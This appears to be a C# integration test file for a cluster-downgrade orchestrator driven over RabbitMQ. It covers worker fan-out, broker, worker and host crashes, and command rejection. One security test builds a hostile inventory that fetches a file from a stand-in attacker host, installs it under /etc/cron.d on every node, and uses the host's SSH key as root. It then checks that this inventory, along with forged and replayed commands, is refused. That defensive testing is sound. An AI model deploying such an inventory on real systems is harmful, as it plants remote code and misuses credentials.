using Saga.Contracts;
using Saga.Engine.Instances;
using Saga.Host.Tests.Downgrade;
using Saga.Tests.Lab;
using Saga.Tests.Postgres;

namespace Saga.Host.Tests.Bus;

/// <summary>
/// The downgrade over a real RabbitMQ (Debian's rabbitmq-server): a host, workers on the shared store, commands sent
/// with saga trigger, progress heard by another service; and the broker, a worker and the host failing half-way.
/// </summary>
public sealed class RabbitMqDowngradeTests
{
    private static readonly string[] Cluster = ["ctl:centos7:control", "c1:centos7:compute", "c2:xenial:compute", "c3:trusty:compute", "c4:centos7:compute"];

    [Fact]
    public async Task Trigger_start_downgrades_every_node_on_two_workers_and_publishes_the_progress()
    {
        await using var lab = await Lab.StartAsync(Cluster);
        await using var broker = await Broker.StartAsync();
        await using var observer = await BusObserver.StartAsync(broker);
        using var hosts = new BusHosts(broker);
        var expected = new DowngradedCluster(lab);
        expected.RememberFelixConfigs();
        hosts.Serve();
        hosts.Worker();
        hosts.Worker();

        var id = await hosts.TriggerStartAsync("-i", lab.InventoryPath, "--canary", "1");
        var done = await hosts.WaitForEndAsync(id);

        Assert.True(done.Summary.Status == InstanceStatus.Finished, hosts.ToString());
        await expected.AssertEveryNodeDowngradedAsync();
        await observer.WaitForAsync<DowngradeFinished>(e => e.InstanceId == id);
        Assert.Single(observer.Of<DowngradeStarted>(), e => e.InstanceId == id);
        Assert.Equal(["c1", "c2", "c3", "c4"], observer.Of<DowngradeNodeFinished>().Where(e => e.InstanceId == id).Select(e => e.Node).Order());
        var steps = observer.Of<DowngradeStepCompleted>().Where(e => e.InstanceId == id).Select(e => e.ActivityId).ToList();
        Assert.Equal(done.Journal.Where(j => j.EventName == "Executed").Select(j => j.ActivityId), steps);
        Assert.Empty(observer.Of<DowngradeNodeFaulted>());
    }

    [Fact]
    public async Task Broker_restarted_during_the_fan_out_loses_no_node_and_runs_none_twice()
    {
        await using var lab = await Lab.StartAsync(3, Cluster);
        await using var broker = await Broker.StartAsync();
        using var hosts = new BusHosts(broker);
        var expected = new DowngradedCluster(lab);
        expected.RememberFelixConfigs();
        hosts.Serve();
        hosts.Worker();

        var id = await hosts.TriggerStartAsync("-i", lab.InventoryPath, "--canary", "0");
        await hosts.Workspace.WaitForLogAsync("Executing activity downgrade-packages");
        await broker.StopAsync();
        await Task.Delay(TimeSpan.FromSeconds(2), TestContext.Current.CancellationToken);
        await broker.StartAgainAsync();
        var done = await hosts.WaitForEndAsync(id);

        Assert.True(done.Summary.Status == InstanceStatus.Finished, $"{done.Summary.Status}: {done.Summary.FaultMessage}\n{hosts}");
        await expected.AssertEveryNodeDowngradedAsync();
        await AssertEveryNodeRanEachStepOnceAsync(hosts, lab, id);
    }

    [Fact]
    public async Task Worker_killed_with_a_node_in_flight_is_redelivered_and_the_other_worker_continues_from_its_checkpoint() =>
        await KillAWorkerMidNodeAsync(store: null);

    [Fact]
    public async Task On_a_shared_PostgreSQL_store_a_worker_killed_mid_node_is_taken_over_and_no_step_runs_twice()
    {
        await using var database = await PostgresDatabase.CreateAsync(TestContext.Current.CancellationToken);
        await KillAWorkerMidNodeAsync(database.Environment);
    }

    [Fact]
    public async Task Host_killed_while_waiting_for_the_fan_in_resumes_on_restart_and_counts_every_node_once()
    {
        await using var lab = await Lab.StartAsync(3, Cluster);
        await using var broker = await Broker.StartAsync();
        using var hosts = new BusHosts(broker);
        var expected = new DowngradedCluster(lab);
        expected.RememberFelixConfigs();
        var doomed = hosts.Serve();
        hosts.Worker();

        var id = await hosts.TriggerStartAsync("-i", lab.InventoryPath, "--canary", "0");
        await hosts.WaitForAsync(id, d => d.Summary is { Status: InstanceStatus.Suspended, BookmarkResumesOnRun: true });
        doomed.Kill(); // the nodes go on on the worker; their results wait in the broker
        await hosts.Workspace.WaitForLogAsync("Executing activity verify-felix");
        hosts.Serve();
        var done = await hosts.WaitForEndAsync(id);

        Assert.True(done.Summary.Status == InstanceStatus.Finished, $"{done.Summary.Status}: {done.Summary.FaultMessage}\n{hosts}");
        await expected.AssertEveryNodeDowngradedAsync();
        await AssertEveryNodeRanEachStepOnceAsync(hosts, lab, id);
        var fanOut = done.Journal.Single(j => j.ActivityId == "compute-rest" && j.EventName == "Executed");
        Assert.Equal(["c1: finished", "c2: finished", "c3: finished", "c4: finished"], fanOut.Output!.Split('\n', StringSplitOptions.RemoveEmptyEntries).Order());
        Assert.Single(done.Journal, j => j.ActivityId == "gate-compute" && j.EventName == "Executed");
    }

    [Fact]
    public async Task Commands_the_host_cannot_carry_out_are_answered_with_CommandRejected_and_change_nothing()
    {
        await using var broker = await Broker.StartAsync();
        await using var observer = await BusObserver.StartAsync(broker);
        using var hosts = new BusHosts(broker);
        hosts.Serve(runNodes: true);
        var unknown = Guid.NewGuid().ToString("N");
        var badInventory = Guid.NewGuid().ToString("N");

        await observer.SendAsync(new StartDowngrade(badInventory, "nodes: [", Name: "broken"));
        await observer.SendAsync(new DecideApproval(unknown, Approved: true));
        await observer.SendAsync(new StartDowngrade("not-an-id", "nodes: []"));

        var inventory = await observer.WaitForAsync<CommandRejected>(e => e.InstanceId == badInventory);
        Assert.Equal(nameof(StartDowngrade), inventory.Command);
        Assert.Contains("The inventory was refused", inventory.Reason, StringComparison.Ordinal);
        Assert.Contains("broken.yaml:2:1", inventory.Reason, StringComparison.Ordinal);
        var approval = await observer.WaitForAsync<CommandRejected>(e => e.InstanceId == unknown);
        Assert.Equal($"there is no instance '{unknown}'", approval.Reason);
        var id = await observer.WaitForAsync<CommandRejected>(e => e.InstanceId == "not-an-id");
        Assert.Contains("is not 32 hex digits", id.Reason, StringComparison.Ordinal);
        Assert.Empty(observer.Of<DowngradeStarted>());
    }

    [Fact]
    public async Task StartDowngrade_on_nodes_a_run_that_has_not_ended_works_on_is_rejected_naming_it_unless_forced()
    {
        await using var broker = await Broker.StartAsync();
        await using var observer = await BusObserver.StartAsync(broker);
        using var hosts = new BusHosts(broker);
        hosts.Serve(runNodes: true);
        const string Inventory = """
            skip: [calicoctl, readyFlag, etcdCleanup]
            nodes:
              - { name: ctl, host: 10.99.0.1, role: control }
              - { name: cmp, host: 10.99.0.2, role: compute }
            """;
        var (first, second, forced) = (Guid.NewGuid().ToString("N"), Guid.NewGuid().ToString("N"), Guid.NewGuid().ToString("N"));

        await observer.SendAsync(new StartDowngrade(first, Inventory, Name: "first"));
        await observer.WaitForAsync<DowngradeStarted>(e => e.InstanceId == first);
        await observer.SendAsync(new StartDowngrade(second, Inventory.Replace("10.99.0.1", "10.99.0.9", StringComparison.Ordinal), Name: "second"));
        var rejected = await observer.WaitForAsync<CommandRejected>(e => e.InstanceId == second);
        await observer.SendAsync(new StartDowngrade(forced, Inventory, Name: "forced", Force: true));
        await observer.WaitForAsync<DowngradeStarted>(e => e.InstanceId == forced);

        Assert.Equal(nameof(StartDowngrade), rejected.Command);
        Assert.Contains($"another run has not ended on nodes of this cluster: instance {first} (first,", rejected.Reason, StringComparison.Ordinal);
        Assert.Contains("10.99.0.2:22", rejected.Reason, StringComparison.Ordinal);
        Assert.DoesNotContain(observer.Of<DowngradeStarted>(), e => e.InstanceId == second);
    }

    [Fact]
    public async Task Unsigned_forged_stale_or_replayed_commands_over_RabbitMq_are_rejected_and_start_nothing()
    {
        await using var broker = await Broker.StartAsync();
        await using var observer = await BusObserver.StartAsync(broker);
        using var hosts = new BusHosts(broker);
        hosts.Serve(runNodes: true);
        var ids = Enumerable.Range(0, 7).Select(_ => Guid.NewGuid().ToString("N")).ToArray();
        var now = DateTimeOffset.UtcNow;

        // The attack: anyone who can publish to saga-commands asks for root on every node, with a calicoctl of their own.
        await observer.SendAsIsAsync(new StartDowngrade(ids[0], CronInventory, Name: "unsigned"));
        await observer.SendAsIsAsync(CommandSignature.Sign(new StartDowngrade(ids[1], CronInventory), Broker.CommandKeyId, "a-key-the-hosts-do-not-hold-0123456789", now));
        await observer.SendAsIsAsync(CommandSignature.Sign(new StartDowngrade(ids[2], CronInventory), "someone-else", Broker.CommandKey, now));
        var signed = CommandSignature.Sign(new StartDowngrade(ids[3], "nodes: []"), Broker.CommandKeyId, Broker.CommandKey, now);
        await observer.SendAsIsAsync(signed with { Inventory = CronInventory }); // the key's holder signed something else
        await observer.SendAsIsAsync(CommandSignature.Sign(new CancelDowngrade(ids[4]), Broker.CommandKeyId, Broker.CommandKey, now.AddMinutes(-6)));
        var once = CommandSignature.Sign(new ResumeDowngrade(ids[5]), Broker.CommandKeyId, Broker.CommandKey, now);
        await observer.SendAsIsAsync(once);
        await observer.WaitForAsync<CommandRejected>(e => e.InstanceId == ids[5]);
        await observer.SendAsIsAsync(once); // the same message again, as someone who recorded it would
        // Signed by a key holder, but the inventory breaks the host's rules for inventories from the bus.
        await observer.SendAsync(new StartDowngrade(ids[6], CronInventory, Name: "cron"));

        Assert.Contains("it is not signed", (await Rejected(ids[0])).Reason, StringComparison.Ordinal);
        Assert.Contains("its signature does not match key 'tests'", (await Rejected(ids[1])).Reason, StringComparison.Ordinal);
        Assert.Contains("this host holds no command key 'someone-else'", (await Rejected(ids[2])).Reason, StringComparison.Ordinal);
        Assert.Contains("its signature does not match key 'tests'", (await Rejected(ids[3])).Reason, StringComparison.Ordinal);
        Assert.Contains("more than 5 minutes from this host's clock", (await Rejected(ids[4])).Reason, StringComparison.Ordinal);
        await observer.WaitForAsync<CommandRejected>(e => e.InstanceId == ids[5] && e.Reason.Contains("nonce was used before", StringComparison.Ordinal));
        var rules = (await Rejected(ids[6])).Reason;
        Assert.Contains("calicoctl.installPath /etc/cron.d/x is not one this host allows", rules, StringComparison.Ordinal);
        Assert.Contains("calicoctl.source http://attacker.test/x is plain http", rules, StringComparison.Ordinal);
        Assert.Contains("ssh.privateKeyFile /etc/ssh/ssh_host_ed25519_key is not in a folder this host allows keys from", rules, StringComparison.Ordinal);
        Assert.Empty(observer.Of<DowngradeStarted>());
        Assert.Equal(0, await hosts.Workspace.CountInstancesAsync()); // no refused command created an instance
        Assert.Matches(@"WRN .*refused: .?it is not signed.*key id .?\(none\).?, from .?rabbitmq://127\.0\.0\.1", hosts.Workspace.Log()); // who tried, where from

        Task<CommandRejected> Rejected(string id) => observer.WaitForAsync<CommandRejected>(e => e.InstanceId == id);
    }

    /// <summary>An inventory that installs the sender's file as a cron job on every node, with the host's own SSH key.</summary>
    private const string CronInventory = """
        os: auto
        from: "3.1"
        to: "2.6"
        ssh:
          user: root
          privateKeyFile: /etc/ssh/ssh_host_ed25519_key
          knownHostsFile: /etc/ssh/ssh_known_hosts
        calicoctl:
          source: http://attacker.test/x
          sha256: 0000000000000000000000000000000000000000000000000000000000000000
          installPath: /etc/cron.d/x
          nodes: all
        etcd:
          runOn: ctl-1
          v2:
            endpoints: [http://10.0.0.5:2379]
          v3:
            endpoints: [http://10.0.0.5:2379]
        nodes:
          - name: ctl-1
            host: 10.0.0.11
            role: control
        """;

    private static async Task KillAWorkerMidNodeAsync(IReadOnlyDictionary<string, string>? store)
    {
        await using var lab = await Lab.StartAsync(3, "ctl:centos7:control", "c1:centos7:compute", "c2:xenial:compute");
        await using var broker = await Broker.StartAsync();
        using var hosts = new BusHosts(broker, store);
        var expected = new DowngradedCluster(lab);
        expected.RememberFelixConfigs();
        hosts.Serve();
        var doomed = hosts.Worker();

        var id = await hosts.TriggerStartAsync("-i", lab.InventoryPath, "--canary", "0");
        await hosts.Workspace.WaitForLogAsync("Executing activity downgrade-packages");
        hosts.Worker(); // joins the queue; the doomed worker's unacknowledged nodes go to it
        doomed.Kill();
        var done = await hosts.WaitForEndAsync(id);

        Assert.True(done.Summary.Status == InstanceStatus.Finished, $"{done.Summary.Status}: {done.Summary.FaultMessage}\n{hosts}");
        await expected.AssertEveryNodeDowngradedAsync();
        await AssertEveryNodeRanEachStepOnceAsync(hosts, lab, id);
        Assert.Equal(store is null, File.Exists(hosts.Workspace.StorePath)); // on PostgreSQL, no process fell back to a SQLite file
    }

    /// <summary>Every compute node finished, changed its packages once, and completed each step once: nothing was redone.</summary>
    private static async Task AssertEveryNodeRanEachStepOnceAsync(BusHosts hosts, Lab lab, string id)
    {
        var children = await hosts.Workspace.ChildrenAsync(id);
        Assert.Equal(lab.Inventory.ComputeNodes.Count(), children.Length);
        foreach (var child in children)
        {
            Assert.Equal(InstanceStatus.Finished, child.Summary.Status);
            var executed = child.Journal.Where(j => j.EventName == "Executed").GroupBy(j => j.ActivityId).Where(g => g.Count() > 1).Select(g => g.Key);
            Assert.Empty(executed);
            var node = child.Summary.Name!;
            var changes = lab.Count(node, "yum -y downgrade") + lab.Count(node, "apt-get install");
            Assert.True(changes == 1, $"{node}: packages changed {changes} times:\n{string.Join('\n', lab.Journal(node))}");
        }
    }
}
